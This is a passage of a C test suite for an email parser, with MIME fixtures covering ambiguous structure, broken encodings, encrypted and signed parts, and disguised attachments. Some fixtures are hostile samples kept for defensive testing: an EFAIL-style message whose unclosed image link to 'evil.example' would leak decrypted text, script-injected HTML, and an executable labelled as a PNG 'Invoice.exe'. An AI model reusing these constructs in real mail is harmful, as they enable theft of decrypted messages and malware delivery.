/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Structure: what is a part, what is the body, and what happens where readers may disagree (rows A5, B1 to B15,
 * B20 to B24, C1 to C3).
 */
#include "mails.h"

typedef struct Row {
        const char *id;
        const char *mail;
        const char *parts;
        const char *body;
        guint32 marks; /* those of MARKS that must be set, and no other of them */
        guint32 flags; /* MgPartFlags that some part must have */
} Row;

#define MARKS                                                                                                          \
        (MG_MARK_AMBIGUOUS | MG_MARK_PARTIAL | MG_MARK_SIGNED | MG_MARK_ENCRYPTED | MG_MARK_BODY_CUT | MG_MARK_OPAQUE)
#define HEAD "From: a@example.org\nDate: Wed, 1 Apr 2026 09:00:00 +0900\nSubject: s\nMIME-Version: 1.0\n"
#define MIXED HEAD "Content-Type: multipart/mixed; boundary=X\n\n"
/* A zip with a.txt, "hi", in it. */
#define ZIP_BASE64                                                                                                     \
        "UEsDBBQAAAAAAAAAgVysKpPYAgAAAAIAAAAFAAAAYS50eHRoaVBLAQIUAxQAAAAAAAAAgVysKpPYAgAAAAIAAAAFAAAAAAAAAAAAAACAAQAA" \
        "AABhLnR4dFBLBQYAAAAAAQABADMAAAAlAAAAAAA=\n"
/* The head of a picture of one pixel, and of a program. */
#define PNG_BASE64 "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ\n"
#define EXE_BASE64 "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==\n"
#define RELATED                                                                                                        \
        HEAD "Content-Type: multipart/related; boundary=X\n\n--X\nContent-Type: text/html\n\n<img src=cid:p>hi\n"
#define ALTERNATIVE HEAD "Content-Type: multipart/alternative; boundary=X\n\n--X\n\n"
#define UU "begin 644 a\n#0V%T\n`\nend\n"
/* S/MIME: "hi" inside a signature, a signature alone, enveloped data. */
#define P7M(type) "Content-Type: application/pkcs7-mime" type "; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n"
#define SIGNED_BASE64 "MDQGCSqGSIb3DQEHAqAnMCUCAQExDTALBglghkgBZQMEAgEwEQYJKoZIhvcNAQcBoAQEAmhp\n"
#define SIGNATURE_BASE64 "MC4GCSqGSIb3DQEHAqAhMB8CAQExDTALBglghkgBZQMEAgEwCwYJKoZIhvcNAQcB\n"
#define ENVELOPED_BASE64 "MCAGCSqGSIb3DQEHA6ATMBF4eHh4eHh4eHh4eHh4eHh4eA==\n"
#define P7M_ALONE "1 attachment application/pkcs7-mime smime.p7m\n"
#define CUT "[符号化されたデータを除去 / encoded data removed]\n"
#define ZIP "--X\nContent-Type: application/zip; name=\"a.zip\"\n\nPK\003\004\n"

static const Row structure[] = {
        {"plain", HEAD "\nhello\n\n\n", "1 body -\n", "hello\n", 0, 0},
        {"no-body", HEAD, "1 body -\n", "", 0, 0},
        {"mixed", MIXED "preamble\n--X\n\nhi\n" ZIP "--X--\n", "1 body -\n2 attachment application/zip a.zip\n", "hi\n",
         0, 0},
        {"two-texts", MIXED "--X\n\none\n--X\n\ntwo\n--X--\n", "1 body -\n2 body -\n", "one\n\ntwo\n", 0, 0},
        {"named-second-text", MIXED "--X\n\none\n--X\nContent-Type: text/plain; name=b.txt\n\ntwo\n--X--\n",
         "1 body -\n2 attachment text/plain b.txt\n", "one\n", 0, 0},
        {"attached-text", MIXED "--X\nContent-Disposition: attachment\n\none\n--X\n\ntwo\n--X--\n",
         "1 attachment -\n2 body -\n", "two\n", 0, 0},
        {"unknown-disposition", MIXED "--X\nContent-Disposition: x-file\n\none\n--X--\n", "1 attachment -\n", "", 0, 0},
        {"B10-any-reading", MIXED "--X\nContent-Disposition: inline\nContent-Disposition: attachment\n\none\n--X--\n",
         "1 attachment -\n", "", MG_MARK_AMBIGUOUS, MG_PART_AMBIGUOUS},
        {"alternative",
         HEAD "Content-Type: multipart/alternative; boundary=X\n\n--X\n\nplain\n--X\nContent-Type: "
              "text/html\n\n<b>html</b>\n--X--\n",
         "1 body -\n2 alternative text/html\n", "plain\n", 0, 0},
        {"alternative-empty",
         HEAD "Content-Type: multipart/alternative; boundary=X\n\n--X\n\n \n--X\nContent-Type: "
              "text/html\n\n<b>html</b>\n--X--\n",
         "1 alternative -\n2 body text/html\n", "html\n", 0, 0},
        {"alternative-placeholder",
         HEAD "Content-Type: multipart/alternative; boundary=X\n\n--X\nContent-Type: text/plain; charset=utf-8\n\n"
              "このメールはHTML形式です。\n--X\nContent-Type: text/html\n\n<b>html</b>\n--X--\n",
         "1 alternative text/plain\n2 body text/html\n", "html\n", 0, 0},
        {"B21-amp",
         HEAD "Content-Type: multipart/alternative; boundary=X\n\n--X\nContent-Type: "
              "text/x-amp-html\n\n<i>amp</i>\n--X\n\nplain\n--X--\n",
         "1 alternative text/x-amp-html\n2 body -\n", "plain\n", 0, 0},
        {"related",
         HEAD "Content-Type: multipart/related; boundary=X\n\n--X\nContent-Type: text/html\n\n<img "
              "src=cid:p>hi\n--X\nContent-Type: image/png\n"
              "Content-ID: <p>\nContent-Transfer-Encoding: base64\n\n" PNG_BASE64 "--X--\n",
         "1 body text/html\n2 inline-picture image/png\n", "hi\n", 0, 0},
        {"picture-by-id",
         MIXED "--X\nContent-Type: text/html\n\n<img src=\"cid:p%40q\">hi\n--X\nContent-Type: image/png\nContent-ID: "
               "<p@q>\nContent-Transfer-Encoding: base64\n\n" PNG_BASE64 "--X--\n",
         "1 body text/html\n2 inline-picture image/png\n", "hi\n", 0, 0},
        {"related-start",
         HEAD "Content-Type: multipart/related; start=\"<r>\"; boundary=X\n\n--X\nContent-Type: "
              "application/pdf\n\nx\n--X\nContent-ID: <r>\n\nroot\n--X--\n",
         "1 attachment application/pdf\n2 body -\n", "root\n", 0, 0},
        {"nested",
         MIXED "--X\nContent-Type: multipart/alternative; boundary=Y\n\n--Y\n\np\n--Y--\n--X\nContent-Type: "
               "image/gif\n\nGIF\n--X--\n",
         "1.1 body -\n2 attachment image/gif\n", "p\n", 0, 0},
        {"outer-boundary-ends-inner",
         MIXED "--X\nContent-Type: multipart/mixed; boundary=Y\n\n--Y\n\np\n--X\n\nq\n--X--\n",
         "1.1 body -\n2 body -\n", "p\n\nq\n", MG_MARK_AMBIGUOUS, 0},
        {"B23-other-texts",
         MIXED "--X\n\none\n--X\nContent-Type: text/markdown\n\n# x\n--X\nContent-Type: text/rtf\n\n{}\n--X--\n",
         "1 body -\n2 attachment text/markdown\n3 attachment text/rtf\n", "one\n", 0, 0},
        {"B24-flowed",
         HEAD "Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes\n\n日本 \n語\n> a \n> b\n",
         "1 body text/plain\n", "日本語\n> ab\n", 0, 0},
        {"charset-of-multipart",
         HEAD "Content-Type: multipart/mixed; charset=iso-8859-7; boundary=X\n\n--X\nContent-Type: "
              "text/plain\n\n\xE1\n--X--\n",
         "1 body text/plain\n", "α\n", 0, 0},
};

static const Row disagreement[] = {
        {"A5-types",
         HEAD "Content-Type: text/plain\nContent-Type: multipart/mixed; boundary=X\n\n--X\n\nhi\n" ZIP "--X--\n",
         "1 attachment -\n2 attachment application/zip a.zip\n0 attachment multipart/mixed\n", "", MG_MARK_AMBIGUOUS,
         MG_PART_AMBIGUOUS},
        {"A5-texts", HEAD "Content-Type: text/plain\nContent-Type: text/html\n\nhi\n", "1 body text/plain\n", "hi\n",
         MG_MARK_AMBIGUOUS, 0},
        {"A5-file", HEAD "Content-Type: text/plain\nContent-Type: application/zip\n\nhi\n", "1 attachment text/plain\n",
         "", MG_MARK_AMBIGUOUS, 0},
        {"A5-unwritable-multipart",
         HEAD "Content-Type: text/plain\nContent-Type: multipart/m|xed; boundary=X\n\n--X\n\nhi\n" ZIP "--X--\n",
         "1 attachment -\n2 attachment application/zip a.zip\n0 attachment multipart/mixed\n", "", MG_MARK_AMBIGUOUS,
         MG_PART_AMBIGUOUS},
        {"unwritable-multipart", HEAD "Content-Type: multipart/al|ernative; boundary=X\n\n--X\n\nhi\n" ZIP "--X--\n",
         "1 body -\n2 attachment application/zip a.zip\n", "hi\n", 0, 0},
        {"A5-same", HEAD "Content-Type: text/plain\nContent-Type: text/plain\n\nhi\n", "1 body text/plain\n", "hi\n", 0,
         0},
        {"B1",
         HEAD "Content-Type: multipart/mixed; boundary=X; boundary=Y\n\n--X\n\nvx\n--X--\n--Y\nContent-Type: "
              "application/zip\n\nvy\n--Y--\n",
         NULL, "", MG_MARK_AMBIGUOUS, MG_PART_AMBIGUOUS},
        {"B2",
         HEAD "Content-Type: multipart/mixed; boundary*0=X; boundary*1=Y; "
              "boundary=Z\n\n--XY\n\nvx\n--XY--\n--Z\n\nvz\n--Z--\n",
         NULL, "", MG_MARK_AMBIGUOUS, MG_PART_AMBIGUOUS},
        {"B2-alone", HEAD "Content-Type: multipart/mixed; boundary*=utf-8''X\n\n--X\n\nvx\n--X--\n", NULL, "",
         MG_MARK_AMBIGUOUS, MG_PART_AMBIGUOUS},
        {"B3-quoted-pair", HEAD "Content-Type: multipart/mixed; boundary=\"X\\Y\"\n\n--XY\n\nvx\n--XY--\n", NULL, "",
         MG_MARK_AMBIGUOUS, MG_PART_AMBIGUOUS},
        {"B3-encoded-word", HEAD "Content-Type: multipart/mixed; boundary=\"=?utf-8?Q?X?=\"\n\n--X\n\nvx\n--X--\n",
         NULL, "", MG_MARK_AMBIGUOUS, MG_PART_AMBIGUOUS},
        {"B3-blank", HEAD "Content-Type: multipart/mixed; boundary=\"X \"\n\n--X \n\nvx\n--X --\n", NULL, "",
         MG_MARK_AMBIGUOUS, MG_PART_AMBIGUOUS},
        {"B4-bad-parameter", HEAD "Content-Type: multipart/mixed; ?=x y; boundary=X\n\n--X\n\nhi\n" ZIP "--X--\n",
         "1 body -\n2 attachment application/zip a.zip\n", "hi\n", MG_MARK_AMBIGUOUS, 0},
        {"B5-missing", HEAD "Content-Type: multipart/mixed\n\n--X\n\nhi\n" ZIP "--X--\n",
         "1 attachment -\n2 attachment application/zip a.zip\n0 attachment multipart/mixed\n", "", MG_MARK_AMBIGUOUS,
         MG_PART_AMBIGUOUS},
        {"B5-empty", HEAD "Content-Type: multipart/mixed; boundary=\"\"\n\n--\n\nhi\n--\n\nyou\n----\n", NULL, "",
         MG_MARK_AMBIGUOUS, MG_PART_AMBIGUOUS},
        {"B5-prefix", MIXED "--X\n\nhi\n--X_1\nContent-Type: application/zip\n\nPK\n--X--\n", "1 body -\n", NULL,
         MG_MARK_AMBIGUOUS, 0},
        {"B5-prefix-of-inner",
         MIXED "--X\nContent-Type: multipart/mixed; boundary=X_1\n\n--X_1\n\nhi\n--X_1--\n--X--\n", "1.1 body -\n",
         "hi\n", 0, 0},
        {"B5-mid-line", MIXED "--X\n\nhi --X\nyou\n--X--\n", "1 body -\n", "hi --X\nyou\n", 0, 0},
        {"B5-none-found", MIXED "no delimiter at all\n", "0 attachment multipart/mixed\n", "", MG_MARK_AMBIGUOUS,
         MG_PART_AMBIGUOUS},
        {"B6-epilogue-text", MIXED "--X\n\nhi\n--X--\nlist footer\n", "1 body -\n0 attachment multipart/mixed\n",
         "hi\n", MG_MARK_AMBIGUOUS, 0},
        {"B6-epilogue-part", MIXED "--X\n\nhi\n--X--\n" ZIP "--X--\n",
         "1 body -\n2 attachment application/zip a.zip\n0 attachment multipart/mixed\n", "hi\n", MG_MARK_AMBIGUOUS,
         MG_PART_AMBIGUOUS},
        {"B6-unterminated", MIXED "--X\n\nhi\n" ZIP, "1 body -\n2 attachment application/zip a.zip\n", "hi\n",
         MG_MARK_AMBIGUOUS, 0},
        {"B6-preamble", MIXED "Content-Type: application/zip\n\nPK\n--X\n\nhi\n--X--\n",
         "1 body -\n0 attachment multipart/mixed\n", "hi\n", 0, MG_PART_AMBIGUOUS},
        {"B7-pieces", HEAD "Content-Transfer-Encoding: base64\n\nVkk=\nUlVTISE=\n", "1 body -\n", "VIRUS!!\n", 0,
         MG_PART_BROKEN_CODING},
        {"B7-junk", HEAD "Content-Transfer-Encoding: base64\n\naG$Vs%bG8=\n", "1 body -\n", "hello\n", 0,
         MG_PART_BROKEN_CODING},
        {"B7-qp", HEAD "Content-Transfer-Encoding: quoted-printable\n\na=3Db=\nc =\n=zz\n", "1 body -\n", "a=bc =zz\n",
         0, MG_PART_BROKEN_CODING},
        {"B7-unknown", HEAD "Content-Transfer-Encoding: x-rot13\n\nuryyb\n", "1 body -\n", "uryyb\n", 0,
         MG_PART_BROKEN_CODING},
        {"B7-two", HEAD "Content-Transfer-Encoding: base64\nContent-Transfer-Encoding: 7bit\n\naGVsbG8=\n",
         "1 body -\n", "hello\n", 0, MG_PART_AMBIGUOUS | MG_PART_BROKEN_CODING},
        {"B7-on-multipart",
         HEAD "Content-Type: multipart/mixed; boundary=X\nContent-Transfer-Encoding: base64\n\n--X\n\nhi\n--X--\n",
         "1 body -\n", "hi\n", MG_MARK_AMBIGUOUS, 0},
        {"disguised",
         HEAD "Content-Type: text/plain\nContent-Transfer-Encoding: "
              "base64\n\n" ZIP_BASE64,
         "1 attachment text/plain\n", "", 0, MG_PART_AMBIGUOUS},
};

/* Nothing that is not in the body is left out of the list, and what is in a list of attachments is no body. */
static const Row hidden[] = {
        {"picture-attached",
         RELATED "--X\nContent-Type: image/png; name=a.png\nContent-ID: <p>\nContent-Disposition: "
                 "attachment\nContent-Transfer-Encoding: base64\n\n" PNG_BASE64 "--X--\n",
         "1 body text/html\n2 attachment image/png a.png\n", "hi\n", 0, 0},
        {"picture-is-program",
         RELATED "--X\nContent-Type: image/png; name=Invoice.exe\nContent-ID: <p>\nContent-Transfer-Encoding: "
                 "base64\n\n" EXE_BASE64 "--X--\n",
         "1 body text/html\n2 attachment image/png Invoice.exe\n", "hi\n", 0, 0},
        {"picture-is-program-in-mixed",
         MIXED "--X\nContent-Type: text/html\n\n<img src=cid:p>hi\n--X\nContent-Type: image/png\nContent-ID: "
               "<p>\nContent-Transfer-Encoding: base64\n\n" EXE_BASE64 "--X--\n",
         "1 body text/html\n2 attachment image/png\n", "hi\n", 0, 0},
        {"picture-svg", RELATED "--X\nContent-Type: image/svg+xml\nContent-ID: <p>\n\n<svg/>\n--X--\n",
         "1 body text/html\n2 attachment image/svg+xml\n", "hi\n", 0, 0},
        {"alternative-csv", ALTERNATIVE "hi\n--X\nContent-Type: text/csv\n\n1,2\n--X--\n",
         "1 body -\n2 attachment text/csv\n", "hi\n", 0, 0},
        {"alternative-named",
         ALTERNATIVE "hi\n--X\nContent-Type: text/html\nContent-Disposition: inline; "
                     "filename=Invoice.html\n\n<p>x\n--X--\n",
         "1 body -\n2 attachment text/html Invoice.html\n", "hi\n", 0, 0},
        {"alternative-of-nothing",
         HEAD "Content-Type: multipart/alternative; boundary=X\n\n--X\nContent-Type: text/enriched\n\nx\n--X--\n",
         "1 attachment text/enriched\n", "", 0, 0},
        {"hint", ALTERNATIVE "-\n--X\nContent-Type: text/html\n\n<p>The notice\n--X--\n",
         "1 alternative -\n2 body text/html\n", "The notice\n", 0, 0},
        {"hint-picture", ALTERNATIVE "[image: logo.png]\n--X\nContent-Type: text/html\n\n<p>The notice\n--X--\n",
         "1 alternative -\n2 body text/html\n", "The notice\n", 0, 0},
        {"hint-client", ALTERNATIVE "Please view in an HTML client\n--X\nContent-Type: text/html\n\n<p>x\n--X--\n",
         "1 alternative -\n2 body text/html\n", "x\n", 0, 0},
        {"no-hint",
         ALTERNATIVE "The plain notice\n--X\nContent-Type: text/html\n\n<p>The plain notice, "
                     "with a footer\n--X--\n",
         "1 body -\n2 alternative text/html\n", "The plain notice\n", 0, 0},
        {"multipart-attached",
         MIXED "--X\n\nhi\n--X\nContent-Disposition: attachment\nContent-Type: multipart/mixed; "
               "boundary=Y\n\n--Y\n\nno\n--Y--\n--X--\n",
         "1 body -\n2.1 attachment -\n", "hi\n", 0, 0},
        {"message-attached",
         MIXED "--X\n\nhi\n--X\nContent-Disposition: attachment\nContent-Type: message/rfc822\n\nSubject: "
               "no\n\nno\n--X--\n",
         "1 body -\n2 attachment message/rfc822\n2.1 attachment -\n", "hi\n", 0, 0},
        {"report-outside",
         MIXED "--X\n\nhi\n--X\nContent-Type: message/delivery-status\n\nno\n--X\nContent-Type: "
               "message/feedback-report; name=a\n\nno\n--X--\n",
         "1 body -\n2 attachment message/delivery-status\n3 attachment message/feedback-report a\n", "hi\n", 0, 0},
        {"report-attached",
         HEAD "Content-Type: multipart/report; boundary=X\n\n--X\n\nhi\n--X\nContent-Disposition: "
              "attachment\nContent-Type: message/delivery-status\n\nno\n--X--\n",
         "1 body -\n2 attachment message/delivery-status\n", "hi\n", 0, 0},
};

/* An encoded file is found in the text as it is shown, whatever it came from. */
static const Row encoded[] = {
        {"html", HEAD "Content-Type: text/html\n\n<pre>hi\n" UU "bye</pre>\n",
         "1 body text/html\n1/1 encoded-text application/x-uuencode a\n", "hi\n" CUT "bye\n", 0, 0},
        {"html-lines", HEAD "Content-Type: text/html\n\n<p>begin 644 a<p>#0V%T<p>`<p>end\n",
         "1 body text/html\n1/1 encoded-text application/x-uuencode a\n", CUT, 0, 0},
        {"report",
         HEAD "Content-Type: multipart/report; boundary=X\n\n--X\n\nhi\n--X\nContent-Type: "
              "message/delivery-status\n\n" UU "--X--\n",
         "1 body -\n2 message message/delivery-status\n", "hi\n", 0, 0},
        {"external", HEAD "Content-Type: message/external-body; access-type=x\n\n" UU,
         "1 message message/external-body\n",
         "[外部に置かれた本文 / External body]\nこの部分の中身はメールになく、ここでは取り寄せていません。\n"
         "The content of this part is not in the mail and was not fetched.\n取り寄せ方 / Access type: x\n",
         0, 0},
        {"nested", HEAD "Content-Type: message/rfc822\n\nContent-Type: text/html\n\n<pre>" UU "</pre>\n",
         "1 message message/rfc822\n1.1 body text/html\n1.1/1 encoded-text application/x-uuencode a\n", "> " CUT, 0, 0},
        {"bare-cr", HEAD "\nhi\rbegin 644 a\r#0V%T\r`\rend\rbye\n",
         "1 body -\n1/1 encoded-text application/x-uuencode a\n", "hi\n" CUT "bye\n", 0, 0},
        {"zwsp", HEAD "Content-Type: text/plain; charset=utf-8\n\n\342\200\213" UU,
         "1 body text/plain\n1/1 encoded-text application/x-uuencode a\n", CUT, 0, 0},
        {"utf-16",
         HEAD "Content-Type: text/plain; charset=utf-16\nContent-Transfer-Encoding: "
              "base64\n\n//5iAGUAZwBpAG4AIAA2ADQANAAgAGEACgAjADAAVgAlAFQACgBgAAoAZQBuAGQACgA=\n",
         "1 body text/plain\n1/1 encoded-text application/x-uuencode a\n", CUT, 0, 0},
        {"flowed", HEAD "Content-Type: text/plain; format=flowed\n\n begin 644 a\n #0V%T\n `\n end\n",
         "1 body text/plain\n1/1 encoded-text application/x-uuencode a\n", NULL, 0, 0},
        {"order", MIXED "--X\n\n" UU "--X\nContent-Type: text/html\n\n<pre>" UU "x</pre>\n--X\n\n" UU "--X--\n",
         "1 body -\n1/1 encoded-text application/x-uuencode a\n2 body text/html\n2/1 encoded-text "
         "application/x-uuencode a\n3 body -\n3/1 encoded-text application/x-uuencode a\n",
         NULL, 0, 0},
        {"shift-jis", HEAD "Content-Type: text/plain; charset=shift_jis\n\n\x93\xFA\x96{\n" UU,
         "1 body text/plain\n1/1 encoded-text application/x-uuencode a\n", "日本\n" CUT, 0, 0},
};

static const Row messages[] = {
        {"rfc822",
         MIXED "--X\n\nsee\n--X\nContent-Type: message/rfc822\n\nFrom: B <b@example.org>\nSubject: "
               "inner\n\ntext\n\nmore\n--X--\n",
         "1 body -\n2 message message/rfc822\n2.1 body -\n",
         "see\n\n> From: B <b@example.org>\n> Subject: inner\n>\n> text\n>\n> more\n", 0, 0},
        {"rfc822-parts",
         MIXED "--X\nContent-Type: message/rfc822\n\nSubject: in\nContent-Type: multipart/mixed; "
               "boundary=Y\n\n--Y\n\nt\n--Y\n"
               "Content-Type: application/pdf; name=f.pdf\n\nP\n--Y--\n--X--\n",
         "1 message message/rfc822\n1.1 body -\n1.2 attachment application/pdf f.pdf\n", "> Subject: in\n>\n> t\n", 0,
         0},
        {"B13-base64",
         HEAD "Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\nU3ViamVjdDogaW4KCnRleHQK\n",
         "1 message message/rfc822\n1.1 body -\n", "> Subject: in\n>\n> text\n", 0, MG_PART_BROKEN_CODING},
        {"B13-empty", HEAD "Content-Type: message/rfc822\n\n", "1 message message/rfc822\n", "", 0, 0},
        {"digest",
         HEAD
         "Content-Type: multipart/digest; boundary=X\n\n--X\n\nSubject: one\n\n1\n--X\n\nSubject: two\n\n2\n--X--\n",
         "1 message -\n1.1 body -\n2 message -\n2.1 body -\n", "> Subject: one\n>\n> 1\n>\n> Subject: two\n>\n> 2\n", 0,
         0},
        {"named-text-after-message",
         MIXED "--X\n\none\n--X\nContent-Type: message/rfc822\n\nSubject: in\n\nt\n--X\nContent-Type: text/plain; "
               "name=b.txt\n\ntwo\n--X--\n",
         "1 body -\n2 message message/rfc822\n2.1 body -\n3 attachment text/plain b.txt\n",
         "one\n\n> Subject: in\n>\n> t\n", 0, 0},
        {"B20-report",
         HEAD "Content-Type: multipart/report; boundary=X\n\n--X\n\nfailed\n--X\nContent-Type: "
              "message/delivery-status\n\nReporting-MTA: dns; x\n\nFinal-Recipient: rfc822; a@example.jp\nAction: "
              "failed\n--X\n"
              "Content-Type: text/rfc822-headers\n\nSubject: orig\nX-Other: no\n--X--\n",
         "1 body -\n2 message message/delivery-status\n3 message text/rfc822-headers\n",
         "failed\n\n[配送結果の通知 / Delivery report]\n\n宛先 / Recipient: a@example.jp\n結果 / Result: "
         "届けられませんでした / could not be delivered\n\n> Subject: orig\n",
         0, 0},
        {"B11-partial", HEAD "Content-Type: message/partial; id=a; number=1\n\nSubject: x\n\nhidden\n",
         "1 attachment message/partial\n", "", MG_MARK_PARTIAL, 0},
        {"B12-external", HEAD "Content-Type: message/external-body; access-type=URL\n\nContent-Type: image/gif\n",
         "1 message message/external-body\n",
         "[外部に置かれた本文 / External body]\nこの部分の中身はメールになく、ここでは取り寄せていません。\n"
         "The content of this part is not in the mail and was not fetched.\n取り寄せ方 / Access type: URL\n",
         0, 0},
        {"B13-nested-head",
         HEAD "Content-Type: message/rfc822\n\nFrom: a@example.org\nTo: b@example.org, c@example.org\nCc: D "
              "<d@example.org>\nBcc: e@example.org\nDate: Wed, 1 Apr 2026 09:00:00 -0330\n\nx\n",
         "1 message message/rfc822\n1.1 body -\n",
         "> From: a@example.org\n> To: b@example.org, c@example.org\n> Cc: D <d@example.org>\n> Date: 2026-04-01 (水 "
         "Wed) 09:00 -0330\n>\n> x\n",
         0, 0},
        {"B20-html",
         HEAD "Content-Type: multipart/report; boundary=X\n\n--X\nContent-Type: "
              "text/html\n\n<p>no<script>evil</script>\n--X\nContent-Type: message/rfc822\n\nSubject: "
              "in\nContent-Type: text/html\n\n<b>inner<script>evil</script>\n--X--\n",
         "1 body text/html\n2 message message/rfc822\n2.1 body text/html\n", "no\n\n> Subject: in\n>\n> inner\n", 0, 0},
        {"B15-appledouble",
         HEAD "Content-Type: multipart/appledouble; boundary=X\n\n--X\nContent-Type: "
              "application/applefile\n\nx\n--X\nContent-Type: application/pdf; name=a.pdf\n\nx\n--X--\n",
         "1 attachment application/applefile\n2 attachment application/pdf a.pdf\n", "", 0, 0},
        {"B15-binhex", HEAD "\nhi\n(This file must be converted with BinHex 4.0)\n\n:abc\ndef:\nbye\n",
         "1 body -\n1/1 encoded-text application/mac-binhex40\n", "hi\n" CUT "bye\n", 0, 0},
        {"B17-pgp", HEAD "\nhi\n-----BEGIN PGP MESSAGE-----\n\nhQEMA5vJ\n-----END PGP MESSAGE-----\n",
         "1 body -\n1/1 encoded-text application/pgp-encrypted\n", "hi\n" CUT, MG_MARK_ENCRYPTED, MG_PART_ENCRYPTED},
        {"B18-tnef",
         MIXED "--X\n\nhi\n--X\nContent-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: "
               "base64\n\neJ8+IgEGkAgABAAA\n--X--\n",
         "1 body -\n2 attachment application/ms-tnef winmail.dat\n", "hi\n", 0, 0},
        {"B19-efail",
         HEAD "Content-Type: multipart/mixed; boundary=X\n\n--X\nContent-Type: text/html\n\n<img "
              "src=\"http://evil.example/\n--X\nContent-Type: application/pkcs7-mime; "
              "smime-type=enveloped-data\n\nC\n--X\nContent-Type: text/html\n\n\">after\n--X--\n",
         "1 body text/html\n2 attachment application/pkcs7-mime\n3 body text/html\n", NULL, MG_MARK_ENCRYPTED,
         MG_PART_ENCRYPTED},
        {"B22-calendar",
         HEAD
         "Content-Type: text/calendar; "
         "charset=utf-8\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nDTSTART;TZID=Asia/Tokyo:20260401T090000\n"
         "SUMMARY:会議\\, 第\n "
         "1回\nX-ALT-DESC:<b>x</b>\nBEGIN:VALARM\nSUMMARY:alarm\nEND:VALARM\nLOCATION:201\nEND:VEVENT\nEND:VCALENDAR\n",
         "1 calendar text/calendar\n",
         "[予定 / Calendar]\n件名 / Summary: 会議, 第1回\n開始 / Start: 2026-04-01 (水 Wed) 09:00 日本時間 / Japan "
         "time\n場所 / "
         "Location: 201\n",
         0, 0},
        {"calendar-folded-in-a-character",
         HEAD "Content-Type: text/calendar; charset=utf-8\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\n"
              "SUMMARY:定例会議（第\xEF\xBC\n \x93回）\nLOCATION:\xE4\n\t\xBC\n \x9A\n\nEND:VEVENT\nEND:VCALENDAR\n",
         "1 calendar text/calendar\n", "[予定 / Calendar]\n件名 / Summary: 定例会議（第３回）\n場所 / Location: 会\n",
         0, 0},
        {"calendar-folded-in-jis",
         HEAD "Content-Type: text/calendar; charset=iso-2022-jp\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\n"
              "SUMMARY:\033$B2\n q5D\033(B\nEND:VEVENT\nEND:VCALENDAR\n",
         "1 calendar text/calendar\n", "[予定 / Calendar]\n件名 / Summary: 会議\n", 0, 0},
        {"calendar-utf-16",
         HEAD "Content-Type: text/calendar; charset=utf-16\nContent-Transfer-Encoding: base64\n\n"
              "/v8AQgBFAEcASQBOADoAVgBDAEEATABFAE4ARABBAFIADQAKAEIARQBHAEkATgA6AFYARQBW\n"
              "AEUATgBUAA0ACgBTAFUATQBNAEEAUgBZADoAeAogAHkADQAKACAAegANAAoARQBOAEQAOgBW\n"
              "AEUAVgBFAE4AVAANAAoARQBOAEQAOgBWAEMAQQBMAEUATgBEAEEAUgANAAo=\n",
         "1 calendar text/calendar\n", "[予定 / Calendar]\n件名 / Summary: xਠyz\n", 0, 0},
        {"signed",
         HEAD "Content-Type: multipart/signed; boundary=X\n\n--X\n\nhi\n--X\nContent-Type: "
              "application/pkcs7-signature; name=smime.p7s\n\nS\n--X--\n",
         "1 body -\n2 attachment application/pkcs7-signature smime.p7s\n", "hi\n", MG_MARK_SIGNED, 0},
        {"encrypted",
         HEAD "Content-Type: multipart/encrypted; boundary=X\n\n--X\nContent-Type: "
              "application/pgp-encrypted\n\nVersion: 1\n--X\n\ncipher\n--X--\n",
         "1 attachment application/pgp-encrypted\n2 attachment -\n", "", MG_MARK_ENCRYPTED, MG_PART_ENCRYPTED},
        {"B19-enveloped", HEAD "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n\nC\n",
         "1 attachment application/pkcs7-mime smime.p7m\n", "", MG_MARK_ENCRYPTED, MG_PART_ENCRYPTED},
        {"B19-opaque", HEAD "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\n\nC\n",
         P7M_ALONE, "", MG_MARK_SIGNED | MG_MARK_OPAQUE, 0},
        {"B19-opaque-attached",
         HEAD "Content-Disposition: attachment; filename=smime.p7m\n" P7M("; smime-type=signed-data") SIGNED_BASE64,
         P7M_ALONE, "", MG_MARK_SIGNED | MG_MARK_OPAQUE, 0},
        {"B19-opaque-without-label", HEAD P7M("") SIGNED_BASE64, P7M_ALONE, "", MG_MARK_SIGNED | MG_MARK_OPAQUE, 0},
        {"B19-opaque-labelled-enveloped", HEAD P7M("; smime-type=enveloped-data") SIGNED_BASE64, P7M_ALONE, "",
         MG_MARK_SIGNED | MG_MARK_OPAQUE, 0},
        {"B19-enveloped-labelled-signed", HEAD P7M("; smime-type=signed-data") ENVELOPED_BASE64, P7M_ALONE, "",
         MG_MARK_ENCRYPTED, MG_PART_ENCRYPTED},
        {"B19-enveloped-called-data",
         MIXED "--X\n\nhi\n--X\nContent-Transfer-Encoding: base64\nContent-Type: "
               "application/octet-stream\n\n" ENVELOPED_BASE64 "--X--\n",
         "1 body -\n2 attachment application/octet-stream\n", "hi\n", 0, MG_PART_ENCRYPTED},
        {"B19-certificates", HEAD P7M("; smime-type=certs-only") SIGNATURE_BASE64, P7M_ALONE, "", 0, 0},
        {"B19-opaque-below-a-list", MIXED "--X\n" P7M("") SIGNED_BASE64 "--X\n\nfooter\n--X--\n",
         "1 attachment application/pkcs7-mime smime.p7m\n2 body -\n", "footer\n", MG_MARK_SIGNED | MG_MARK_OPAQUE, 0},
        {"B19-opaque-beside-an-empty-text", MIXED "--X\n\n \n--X\n" P7M("") SIGNED_BASE64 "--X--\n",
         "1 body -\n2 attachment application/pkcs7-mime smime.p7m\n", "", MG_MARK_SIGNED | MG_MARK_OPAQUE, 0},
        {"B19-file-below-a-text", MIXED "--X\n\nhi\n--X\n" P7M("") SIGNED_BASE64 "--X--\n",
         "1 body -\n2 attachment application/pkcs7-mime smime.p7m\n", "hi\n", MG_MARK_SIGNED, 0},
        {"B19-opaque-nested",
         MIXED "--X\nContent-Type: message/rfc822\n\nSubject: in\n" P7M("") SIGNED_BASE64 "--X--\n",
